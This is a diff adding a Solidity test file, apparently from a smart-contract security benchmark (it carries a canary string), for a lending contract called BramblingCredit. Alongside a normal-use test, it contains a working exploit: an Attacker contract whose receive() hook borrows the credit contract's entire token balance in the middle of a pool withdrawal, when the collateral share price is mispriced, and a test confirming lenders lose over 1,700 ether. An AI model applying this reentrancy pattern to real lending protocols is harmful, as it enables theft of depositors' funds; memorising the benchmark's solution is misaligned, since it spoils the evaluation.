@@ -1,0 +1,167 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.19;
+
+import "./BramblingCredit.sol";
+
+// assay-canary-129477d9-4117-442e-8697-8b7698306460
+
+interface Vm {
+    function warp(uint256 time) external;
+    function prank(address sender) external;
+    function deal(address to, uint256 amount) external;
+}
+
+contract Token is IToken {
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+
+    function mint(address to, uint256 amount) external {
+        balanceOf[to] += amount;
+    }
+
+    function approve(address spender, uint256 amount) external returns (bool) {
+        allowance[msg.sender][spender] = amount;
+        return true;
+    }
+
+    function transfer(address to, uint256 amount) external returns (bool) {
+        balanceOf[msg.sender] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
+        allowance[from][msg.sender] -= amount;
+        balanceOf[from] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+}
+
+contract Proof {
+    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
+    address internal constant WRAPPED = address(0xE7E7);
+    address internal constant LENDER = address(0x1E4D);
+    address internal constant BORROWER = address(0xB044);
+    uint256 internal constant START = 1_689_900_000;
+
+    Token internal staked;
+    EtherPool internal pool;
+    BramblingCredit internal credit;
+    Attacker internal thief;
+
+    function setUp() public {
+        vm.warp(START);
+        staked = new Token();
+        pool = new EtherPool(WRAPPED, address(staked));
+        credit = new BramblingCredit(staked, pool, new LpFeed());
+
+        staked.mint(LENDER, 4_000 ether);
+        vm.prank(LENDER);
+        staked.approve(address(credit), type(uint256).max);
+        vm.prank(LENDER);
+        credit.lend(4_000 ether);
+
+        vm.deal(BORROWER, 600 ether);
+        staked.mint(BORROWER, 700 ether);
+        vm.prank(BORROWER);
+        staked.approve(address(pool), type(uint256).max);
+        vm.prank(BORROWER);
+        pool.join{value: 500 ether}(500 ether);
+
+        thief = new Attacker(pool, credit, staked);
+        vm.deal(address(thief), 20_000 ether);
+        staked.mint(address(thief), 20_000 ether);
+    }
+
+    function test_Regular() public {
+        vm.prank(BORROWER);
+        require(pool.exchange(1, 100 ether) == 99.96 ether, "exchanged");
+        require(BORROWER.balance == 199.96 ether, "ether");
+        pool.collect();
+        require(staked.balanceOf(address(this)) == 0.02 ether, "keeper");
+
+        vm.prank(BORROWER);
+        pool.trust(address(credit), true);
+        vm.prank(BORROWER);
+        credit.pledge(100 ether);
+        vm.prank(BORROWER);
+        (bool ok, ) = address(credit).call(abi.encodeCall(BramblingCredit.borrow, (80 ether)));
+        require(!ok, "the fee counts");
+        vm.prank(BORROWER);
+        credit.borrow(70 ether);
+        vm.prank(BORROWER);
+        (ok, ) = address(credit).call(abi.encodeCall(BramblingCredit.unpledge, (50 ether)));
+        require(!ok, "bound");
+
+        vm.warp(START + 31 days);
+        staked.mint(LENDER, 70.35 ether);
+        vm.prank(LENDER);
+        credit.takeOver(BORROWER);
+        require(pool.balanceOf(LENDER) > 73.8 ether && pool.balanceOf(LENDER) < 73.87 ether, "shares");
+        vm.prank(LENDER);
+        pool.leave(10 ether);
+        require(LENDER.balance > 3.9 ether, "left");
+        vm.prank(BORROWER);
+        credit.unpledge(26 ether);
+        require(lendersCover() == 4_000.35 ether, "fee");
+    }
+
+    function exploit() public {
+        thief.run();
+    }
+
+    function test_Exploit() public {
+        uint256 before = lendersCover();
+        exploit();
+        require(lendersCover() + 1_700 ether <= before, "nothing lost");
+        require(address(thief).balance + staked.balanceOf(address(thief)) > 41_700 ether, "nothing gained");
+    }
+
+    /// What is there for the lenders: cash, and debts as far as what is pledged for them is worth.
+    function lendersCover() public view returns (uint256) {
+        return staked.balanceOf(address(credit)) + _good(BORROWER) + _good(address(thief));
+    }
+
+    function _good(address who) internal view returns (uint256) {
+        (uint256 pledged, uint256 debt, ) = credit.lines(who);
+        uint256 value = (pledged * pool.sharePrice()) / 1e18;
+        return debt < value ? debt : value;
+    }
+
+    function target() public view returns (address) {
+        return address(credit);
+    }
+
+    function attacker() public view returns (address) {
+        return address(thief);
+    }
+}
+
+/// Borrows between the ether and the tokens of a leave.
+contract Attacker {
+    EtherPool internal pool;
+    BramblingCredit internal credit;
+    Token internal staked;
+    bool internal leaving;
+
+    constructor(EtherPool pool_, BramblingCredit credit_, Token staked_) {
+        pool = pool_;
+        credit = credit_;
+        staked = staked_;
+    }
+
+    function run() external {
+        staked.approve(address(pool), 20_000 ether);
+        uint256 shares = pool.join{value: 20_000 ether}(20_000 ether);
+        pool.trust(address(credit), true);
+        credit.pledge(2_000 ether);
+        leaving = true;
+        pool.leave(shares - 2_000 ether);
+        leaving = false;
+    }
+
+    receive() external payable {
+        if (leaving) credit.borrow(staked.balanceOf(address(credit)));
+    }
+}
